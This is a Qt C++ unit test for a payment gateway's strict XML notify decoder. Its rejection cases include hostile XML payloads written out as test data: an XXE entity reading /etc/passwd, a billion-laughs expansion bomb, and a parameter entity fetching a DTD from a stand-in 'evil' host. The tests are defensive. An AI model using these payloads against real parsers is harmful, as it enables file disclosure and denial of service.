// The strict XML decoder of iOnline Pay's notify: CDATA fields accepted, every DTD, entity,
// reference and structural surprise refused before or by QXmlStreamReader.

#include "gateway/ionline/XmlNotifyDecoder.h"

#include <QTest>

using namespace paydesk;
using namespace Qt::StringLiterals;

class TestXmlNotify : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void cdataFields();
    void plainTextAndDeclaration();
    void cdataMayHoldMarkupCharacters();
    void refused_data();
    void refused();
};

void TestXmlNotify::cdataFields()
{
    const auto fields
        = decodeXmlNotify("<xml><mch_id><![CDATA[10085200000000]]></mch_id>\n  <total_fee><![CDATA[2865]]></total_fee>"
                          "<body><![CDATA[測試產品]]></body><attach><![CDATA[]]></attach></xml>");
    QVERIFY2(fields, fields ? "" : qPrintable(fields.error().detail));
    QCOMPARE(*fields,
             (ParamList{{u"mch_id"_s, u"10085200000000"_s},
                        {u"total_fee"_s, u"2865"_s},
                        {u"body"_s, u"測試產品"_s},
                        {u"attach"_s, QString()}}));
}

void TestXmlNotify::plainTextAndDeclaration()
{
    const auto fields = decodeXmlNotify("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<xml><status>0</status></xml>\n");
    QVERIFY(fields);
    QCOMPARE(*fields, (ParamList{{u"status"_s, u"0"_s}}));
}

void TestXmlNotify::cdataMayHoldMarkupCharacters()
{
    // Inside CDATA '&' and '<!' are plain text, never references or declarations.
    const auto fields = decodeXmlNotify("<xml><body><![CDATA[a&b <!ENTITY x> &amp;]]></body></xml>");
    QVERIFY(fields);
    QCOMPARE(fields->first().second, u"a&b <!ENTITY x> &amp;"_s);
}

void TestXmlNotify::refused_data()
{
    QTest::addColumn<QByteArray>("body");
    QTest::newRow("doctype with external entity")
        << QByteArray("<?xml version=\"1.0\"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"
                      "<xml><body>&xxe;</body></xml>");
    QTest::newRow("billion laughs") << QByteArray(
        "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">"
        "<!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">"
        "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">]>"
        "<xml><body>&lol3;</body></xml>");
    QTest::newRow("doctype alone") << QByteArray("<!DOCTYPE xml><xml><a>1</a></xml>");
    QTest::newRow("parameter entity") << QByteArray(
        "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://evil/x.dtd\"> %p;]><xml/>");
    QTest::newRow("undeclared entity") << QByteArray("<xml><body>&foo;</body></xml>");
    QTest::newRow("predefined entity") << QByteArray("<xml><body>a&amp;b</body></xml>");
    QTest::newRow("character reference") << QByteArray("<xml><total_fee>&#50;865</total_fee></xml>");
    QTest::newRow("malformed") << QByteArray("<xml><body>unclosed</xml>");
    QTest::newRow("truncated") << QByteArray("<xml><body><![CDATA[abc]]></body>");
    QTest::newRow("unterminated cdata") << QByteArray("<xml><body><![CDATA[abc</body></xml>");
    QTest::newRow("non-xml root") << QByteArray("<root><mch_id>1</mch_id></root>");
    QTest::newRow("two roots") << QByteArray("<xml><a>1</a></xml><xml><a>2</a></xml>");
    QTest::newRow("nested") << QByteArray("<xml><a><b>1</b></a></xml>");
    QTest::newRow("attribute") << QByteArray("<xml><a x=\"1\">1</a></xml>");
    QTest::newRow("attribute on root") << QByteArray("<xml xmlns:x=\"urn:x\"><a>1</a></xml>");
    QTest::newRow("duplicate field") << QByteArray("<xml><total_fee>1</total_fee><total_fee>2865</total_fee></xml>");
    QTest::newRow("text beside fields") << QByteArray("<xml>stray<a>1</a></xml>");
    QTest::newRow("comment") << QByteArray("<xml><!-- hi --><a>1</a></xml>");
    QTest::newRow("processing instruction") << QByteArray("<xml><?php echo 1; ?><a>1</a></xml>");
    QTest::newRow("other encoding") << QByteArray("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><xml><a>1</a></xml>");
    QTest::newRow("invalid utf-8") << QByteArray("<xml><a>\xff\xfe</a></xml>");
    QTest::newRow("empty") << QByteArray();
    QTest::newRow("json") << QByteArray(R"({"status":"0"})");
    QTest::newRow("form") << QByteArray("status=0&mch_id=1");
    QTest::newRow("odd field name") << QByteArray("<xml><a.b>1</a.b></xml>");
    QByteArray many = "<xml>";
    for (int i = 0; i < 65; ++i)
        many += "<f" + QByteArray::number(i) + ">1</f" + QByteArray::number(i) + '>';
    QTest::newRow("65 fields") << many + "</xml>";
}

void TestXmlNotify::refused()
{
    QFETCH(QByteArray, body);
    const auto fields = decodeXmlNotify(body);
    QVERIFY(!fields);
    QCOMPARE(fields.error().code, ErrorCode::InvalidArgument);
    QVERIFY(!fields.error().detail.isEmpty());
}

QTEST_GUILESS_MAIN(TestXmlNotify)
#include "test_xml_notify.moc"
